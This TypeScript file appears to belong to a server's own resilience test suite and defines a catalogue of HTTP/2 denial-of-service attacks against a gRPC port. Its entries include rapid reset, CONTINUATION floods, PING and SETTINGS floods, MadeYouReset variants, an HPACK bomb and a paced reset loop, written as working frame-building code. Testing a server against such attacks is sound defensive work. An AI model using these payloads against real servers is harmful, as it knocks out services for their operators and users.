/** Frames that cost work without advancing a call, and header blocks that are expensive to decode. */
import {
  CONTINUATION,
  DATA,
  frame,
  GOAWAY,
  HEADERS,
  PING,
  PRIORITY,
  RST,
  SETTINGS,
  WINDOW_UPDATE,
} from '../../test/support/grpc/http2-frames.ts';
import {
  type Attack,
  callFlood,
  dial,
  flood,
  forever,
  head,
  initialWindow,
  open,
  PREDICT,
  send,
  uint32,
  WATCH,
} from './attack.ts';

const CANCEL = uint32(8);
const MAX_STREAMS = 1024;

const manyStreams = Buffer.concat(Array.from({ length: MAX_STREAMS }, (_, index) => open(2 * index + 1, WATCH)));
/** A literal with incremental indexing, then references to it: 4 KB of header for each byte. */
const longEntry = Buffer.concat([Buffer.of(0x40, 1, 0x61, 0x7f, 0x81, 0x1e), Buffer.alloc(4000, 'a')]);

export const controlFrameAttacks: readonly Attack[] = [
  callFlood('rapid reset (CVE-2023-44487)', (id) => Buffer.concat([open(id, PREDICT), frame(RST, 0, id, CANCEL)])),
  pacedReset('rapid reset, 4,000 a second'),
  flood('CONTINUATION flood (CVE-2024-27316)', {
    before: frame(HEADERS, 0, 1, head(PREDICT)),
    repeated: frame(CONTINUATION, 0, 1, Buffer.of(0x82)),
  }),
  flood('empty CONTINUATION (CVE-2024-28182)', { before: frame(HEADERS, 0, 1), repeated: frame(CONTINUATION, 0, 1) }),
  flood('PING (CVE-2019-9512)', { repeated: frame(PING, 0, 0, Buffer.alloc(8)) }),
  flood('PING, answers never read', { repeated: frame(PING, 0, 0, Buffer.alloc(8)), isUnread: true }),
  flood('PING acknowledgements', { repeated: frame(PING, 1, 0, Buffer.alloc(8)) }),
  flood('SETTINGS (CVE-2019-9515)', { repeated: frame(SETTINGS, 0, 0) }),
  flood('SETTINGS acknowledgements', { repeated: frame(SETTINGS, 1, 0) }),
  flood('SETTINGS with 2,730 windows, 1,024 streams', {
    before: manyStreams,
    repeated: frame(SETTINGS, 0, 0, Buffer.concat(Array.from({ length: 2730 }, (_, index) => initialWindow(index)))),
  }),
  flood('PRIORITY', { repeated: frame(PRIORITY, 0, 3, Buffer.from('0000000010', 'hex')) }),
  flood('WINDOW_UPDATE of the connection', { repeated: frame(WINDOW_UPDATE, 0, 0, uint32(1)) }),
  flood('WINDOW_UPDATE of a stream', { before: open(1, WATCH), repeated: frame(WINDOW_UPDATE, 0, 1, uint32(1)) }),
  flood('window overflow', { repeated: frame(WINDOW_UPDATE, 0, 0, uint32(0x7fff_ffff)) }),
  flood('frames of unknown types', { repeated: frame(0x42, 0, 1) }),
  flood('frames of unknown types, 16 KB', { repeated: frame(0x42, 0, 1, Buffer.alloc(16_384)) }),
  flood('empty DATA (CVE-2019-9518)', { before: open(1, PREDICT), repeated: frame(DATA, 0, 1) }),
  flood('DATA of padding', { before: open(1, PREDICT), repeated: frame(DATA, 8, 1, Buffer.of(3, 0, 0, 0)) }),
  callFlood('MadeYouReset: window grows by 0 (CVE-2025-8671)', (id) =>
    Buffer.concat([open(id, WATCH), frame(WINDOW_UPDATE, 0, id, uint32(0))]),
  ),
  callFlood('MadeYouReset: window overflows', (id) =>
    Buffer.concat([open(id, WATCH), frame(WINDOW_UPDATE, 0, id, uint32(0x7fff_ffff))]),
  ),
  callFlood('MadeYouReset: data after the end', (id) =>
    Buffer.concat([open(id, WATCH), frame(DATA, 1, id), frame(DATA, 1, id)]),
  ),
  callFlood('malformed heads', (id) => frame(HEADERS, 4, id, head(PREDICT, [['Upper', 'case']]))),
  callFlood('streams over the limit', (id) => open(id, WATCH)),
  callFlood('HPACK bomb (CVE-2016-6581)', (id) =>
    frame(HEADERS, 5, id, Buffer.concat([head(PREDICT), id === 1 ? longEntry : Buffer.alloc(7000, 0xbe)])),
  ),
  callFlood('a method that does not exist, with a path of 200 %', (id) =>
    frame(HEADERS, 5, id, head(`/${'%'.repeat(200)}`)),
  ),
  callFlood('heads of 15 KB', (id) => open(id, PREDICT, [['x-long', 'a'.repeat(15_000)]])),
  callFlood('heads of 1,000 fields', (id) =>
    open(
      id,
      PREDICT,
      Array.from({ length: 1000 }, (_, index) => [`x${index % 10}`, ''] as const),
    ),
  ),
  callFlood('heads of 81 KB that change the table, which are refused', refusedHead),
  callFlood('heads of one string of 96 KB in Huffman code, which are refused', longStringHead),
  flood('GOAWAY again and again', { repeated: frame(GOAWAY, 0, 0, Buffer.alloc(8)) }),
];

/** Entries for the dynamic table, Huffman coded. */
function refusedHead(id: number): Buffer {
  const entries = Buffer.from(`\x40\x01a\xfe${'\x1f'.repeat(126)}`.repeat(125), 'latin1');
  const more = Array.from({ length: 5 }, (_, index) => frame(CONTINUATION, index === 4 ? 4 : 0, id, entries));
  return Buffer.concat([frame(HEADERS, 1, id, head(PREDICT)), ...more]);
}

/** One string of letters with the shortest Huffman codes, which is 1.6 times as long when decoded. */
function longStringHead(id: number): Buffer {
  const text = Buffer.concat([Buffer.from('000161ff81ed05', 'hex'), Buffer.alloc(96_000)]);
  const parts = Array.from({ length: 6 }, (_, index) => text.subarray(16_384 * index, 16_384 * (index + 1)));
  const more = parts.map((part, index) => frame(CONTINUATION, index === 5 ? 4 : 0, id, part));
  return Buffer.concat([frame(HEADERS, 1, id, head(PREDICT)), ...more]);
}

/** Below the control-frame limit, so that the connection stays open and only the cost of each frame counts. */
function pacedReset(name: string): Attack {
  return {
    name,
    run: (target) =>
      forever(async () => {
        const socket = await dial(target.grpcPort);
        socket.resume();
        socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
        socket.write(frame(SETTINGS, 0, 0));
        let id = 1;
        const calls = (): Buffer => {
          const ids = Array.from({ length: 40 }, (_, index) => id + 2 * index);
          id += 80;
          return Buffer.concat(ids.flatMap((next) => [open(next, PREDICT), frame(RST, 0, next, CANCEL)]));
        };
        while (await send(socket, calls())) await new Promise((resolve) => setTimeout(resolve, 10));
      }),
  };
}
